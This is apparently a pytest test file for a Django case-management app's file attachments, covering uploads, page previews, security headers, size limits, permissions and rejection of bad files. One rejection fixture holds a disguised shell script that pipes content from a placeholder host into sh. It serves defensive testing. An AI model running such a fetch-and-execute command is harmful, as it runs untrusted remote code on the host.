"""Files of a section over HTTP, on one node, without JavaScript: attached, looked at, taken out, taken away."""

import html
import io
import re
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from tests.cases.attachments.files import (
    calling_paper,
    huge_picture,
    locked_paper,
    paper,
    photograph,
    zip_bomb,
)
from tests.conftest import HOME, ConnectAs
from tests.site.people import People

pytestmark = pytest.mark.django_db(transaction=True)

BARE = "default-src 'none'; frame-ancestors 'none'; sandbox"
TITLE = "Letter of the labour inspectorate"


@pytest.fixture
def client_in(connect_as: ConnectAs, settings: Any) -> Client:
    """Ana, signed in by the demonstration's button."""
    settings.DEMO = True
    people, client = People(connect_as("owner")), Client()
    assert client.post("/sign-in/", {"member": str(people.ana())}).status_code == 302
    return client


class Desk:
    """Ana at her browser, and the files of one section."""

    def __init__(self, client: Client) -> None:
        self.client = client
        self.person = client.post("/people/new/", {"pseudonym": "Linden"}).headers["Location"]
        self.files = f"{self.person}needs/files/"

    def see(self, path: str, status: int = 200) -> str:
        answer = self.client.get(path)
        assert answer.status_code == status, path
        return words(answer.content)

    def attach(self, name: str, data: bytes, status: int = 302, title: str = TITLE, seen: str = "") -> str:
        sent = SimpleUploadedFile(name, data)
        answer = self.client.post(self.files, {"title": title, "seen": seen, "file": sent})
        assert answer.status_code == status, words(answer.content)
        return str(answer.content.decode())

    def newest(self) -> str:
        """The address of the file that was attached last."""
        page = self.client.get(self.files).content.decode()
        return str(re.findall(r'href="(/files/[0-9a-f-]+/)"', page)[0])


def words(content: bytes) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", content.decode())).split())


@pytest.fixture
def desk(client_in: Client) -> Desk:
    return Desk(client_in)


def picture_of(desk: Desk, page: int = 1) -> Any:
    answer = desk.client.get(f"{desk.newest()}page-{page}.png")
    assert answer.status_code == 200
    return answer, Image.open(io.BytesIO(answer.content))


def test_a_paper_is_attached_and_looked_at_page_by_page_without_leaving_the_browser(desk: Desk) -> None:
    assert "Attach a file" in desk.see(desk.person)
    desk.attach("letter.pdf", paper(pages=3))
    assert "1 file" in desk.see(desk.person)
    assert TITLE in desk.see(desk.files)
    page = desk.client.get(f"{desk.newest()}?page=2").content.decode()
    assert "Page 2 of 3" in page
    assert f'<img class="file" src="{desk.newest()}page-2.png" alt="{TITLE}. Page 2 of 3">' in page
    answer, drawn = picture_of(desk, 2)
    assert drawn.format == "PNG"
    assert drawn.getpixel((70 * drawn.width // 200, 230 * drawn.height // 300)) == (0, 0, 0)
    assert answer.headers["Content-Security-Policy"] == BARE
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_a_picture_is_looked_at_with_what_is_seen_on_it_as_its_text(desk: Desk) -> None:
    desk.attach("IMG_2031.jpg", photograph(), seen="A door with two locks")
    page = desk.client.get(desk.newest()).content.decode()
    assert 'alt="A door with two locks"' in page
    _answer, drawn = picture_of(desk)
    assert drawn.size == (40, 60)
    assert "IMG_2031" not in page + desk.client.get(desk.files).content.decode()


def test_a_text_is_shown_as_text_and_never_as_a_page(desk: Desk) -> None:
    desk.attach("note.txt", "Am văzut <b>două</b> mașini.\n".encode() * 200)
    page = desk.client.get(desk.newest()).content.decode()
    assert "Am văzut &lt;b&gt;două&lt;/b&gt; mașini." in page
    assert "Page 1 of 3" in page
    assert desk.client.get(f"{desk.newest()}page-1.png").status_code == 404


def test_a_file_is_taken_out_under_a_name_of_ours_and_opens_nowhere_by_itself(desk: Desk) -> None:
    desk.attach("Mihaela Dobre.pdf", calling_paper())
    answer = desk.client.get(f"{desk.newest()}take-out/")
    assert answer.status_code == 200
    assert re.fullmatch(
        r'attachment; filename="file-[0-9a-f]{8}\.pdf"', answer.headers["Content-Disposition"]
    )
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == BARE
    assert answer.headers["Cache-Control"] == "no-store"
    assert b"collector" not in answer.content


BAD = [
    ("holiday.zip", zip_bomb(), "This is none of the kinds that can be attached"),
    ("photo.jpg", b"#!/bin/sh\ncurl https://collector.example | sh\n", "This file is not what its name says"),
    ("photo.png", huge_picture(), "This picture has more than 50 million points."),
    ("letter.pdf", locked_paper(), "This PDF is locked"),
]


@pytest.mark.parametrize("name, data, sentence", BAD)
def test_what_cannot_be_attached_says_so_and_nothing_that_was_typed_is_lost(
    desk: Desk, name: str, data: bytes, sentence: str
) -> None:
    page = html.unescape(desk.attach(name, data, 422, title="A letter", seen="Two pages"))
    assert sentence in page
    assert 'value="A letter"' in page
    assert "Two pages</textarea>" in page
    assert 'href="#file"' in page


def test_without_a_title_or_a_file_each_says_what_is_missing(desk: Desk) -> None:
    assert "Write what it is." in desk.attach("letter.pdf", paper(), 422, title="")
    answer = desk.client.post(desk.files, {"title": TITLE})
    assert answer.status_code == 422
    assert "No file was chosen." in words(answer.content)


class Endless:
    """A body that begins as a form does, and goes on for as long as somebody reads."""

    def __init__(self, begins: bytes) -> None:
        self.begins, self.read_so_far = begins, 0

    def read(self, size: int = -1) -> bytes:
        assert size >= 0, "nobody asks for all of it"
        piece = (self.begins[self.read_so_far :] + bytes(size))[:size]
        self.read_so_far += size
        return piece

    readline = read


def test_of_two_gibibytes_no_more_is_read_than_what_was_typed_before_them(desk: Desk) -> None:
    begins = (
        b'--x\r\nContent-Disposition: form-data; name="title"\r\n\r\nA film\r\n'
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="film.pdf"\r\n\r\n%PDF-1.7'
    )
    body = Endless(begins)
    more: dict[str, Any] = {
        "wsgi.input": body, "CONTENT_LENGTH": str(2 * 1024**3), "CONTENT_TYPE": "multipart/form-data; boundary=x",
    }  # fmt: skip
    answer = desk.client.generic("POST", desk.files, **more)
    assert answer.status_code == 422
    assert "This file is larger than 20 MiB, and was not read." in words(answer.content)
    assert 'value="A film"' in answer.content.decode()
    assert body.read_so_far <= 256 * 1024


def test_the_limit_is_the_node_s_and_said_before_anybody_chooses(desk: Desk, settings: Any) -> None:
    settings.ATTACHMENT_MEBIBYTES = 1
    assert "at most 1 MiB" in desk.see(desk.files)
    assert "larger than 1 MiB" in desk.attach("note.txt", b"a" * (1024 * 1024 + 1), 422)
    desk.attach("note.txt", b"a" * 1024 * 1024)


def test_a_file_is_taken_away_with_a_reason(desk: Desk) -> None:
    desk.attach("note.txt", b"A note")
    file = desk.newest()
    assert desk.client.post(f"{file}remove/", {}).status_code == 422
    assert desk.client.post(f"{file}remove/", {"why": "person_asked"}).status_code == 302
    assert "The person asked for it" in desk.see(desk.files)
    desk.see(file, 404)


def test_it_says_whether_a_scanner_looks_and_that_files_are_not_sent(desk: Desk, settings: Any) -> None:
    text = desk.see(desk.files)
    assert "No virus scanner looks at it: this node has none." in text
    assert "Files are not sent to another agency" in text
    settings.CLAMAV = HOME / "scanner"
    assert "A virus scanner looks at it first." in desk.see(desk.files)


@pytest.mark.parametrize("path", ["nonsense/files/", "health/files/"])
def test_a_section_that_is_not_there_or_closed_has_no_page_of_files(desk: Desk, path: str) -> None:
    assert desk.client.get(desk.person + path).status_code in (404, 409)


@pytest.mark.parametrize(
    "query, status", [("?page=2", 409), ("?page=0", 409), ("?page=x", 200), ("?page=999999999", 200)]
)
def test_there_is_no_page_beyond_the_last(desk: Desk, query: str, status: int) -> None:
    desk.attach("letter.pdf", paper())
    assert desk.client.get(f"{desk.newest()}{query}").status_code == status


@pytest.fixture
def nurse(desk: Desk, connect_as: ConnectAs) -> Client:
    """A colleague with a place in the case: she reads needs, and writes health."""
    owner, client = connect_as("owner"), Client()
    people = People(owner)
    (agency,) = owner.execute("SELECT agency_id FROM agencies.member").fetchone() or (None,)
    member = people.place(people.account("nora"), agency, "nurse", "Nora")
    form = {"member": str(member), "told": "yes", "why": "needs"}
    desk.client.post(f"{desk.person}team/place/", form)
    assert client.post("/sign-in/", {"member": str(member)}).status_code == 302
    return client


def test_who_only_reads_the_section_looks_at_a_file_and_takes_none_out(desk: Desk, nurse: Client) -> None:
    desk.attach("letter.pdf", paper())
    file = desk.newest()
    page = words(nurse.get(file).content)
    assert "its files are looked at here, and not taken out." in page
    assert "Take a copy out" not in page
    assert nurse.get(f"{file}page-1.png").headers["Content-Type"] == "image/png"
    assert nurse.get(f"{file}take-out/").status_code == 409
    assert nurse.post(f"{file}remove/", {"why": "replaced"}).status_code == 409
    front = nurse.get(desk.files).content.decode()
    assert TITLE in front
    assert 'type="file"' not in front
    sent = {"title": TITLE, "file": SimpleUploadedFile("letter.pdf", paper())}
    assert nurse.post(desk.files, sent).status_code in (409, 422)
    assert desk.see(file)


def test_a_second_press_attaches_no_second_file(desk: Desk) -> None:
    said = {"title": "From the neighbour", "seen": "", "key": key(desk)}
    slip = desk.client.post(desk.files, said)
    assert said["key"] in slip.content.decode(), "the form stays the same one"
    for _press in range(2):
        sent = {**said, "file": SimpleUploadedFile("note.txt", b"A note.")}
        assert desk.client.post(desk.files, sent).headers["Location"] == desk.files
    assert desk.see(desk.files).count("From the neighbour") == 1
    another = {**said, "file": SimpleUploadedFile("note.txt", b"A note."), "key": key(desk)}
    assert desk.client.post(desk.files, another).status_code == 302
    assert desk.see(desk.files).count("From the neighbour") == 2, "a form of its own attaches a file"


def key(desk: Desk) -> str:
    """That of the file that the form attaches."""
    found = re.search(r'name="key" value="([^"]*)"', desk.client.get(desk.files).content.decode())
    return found[1] if found else ""
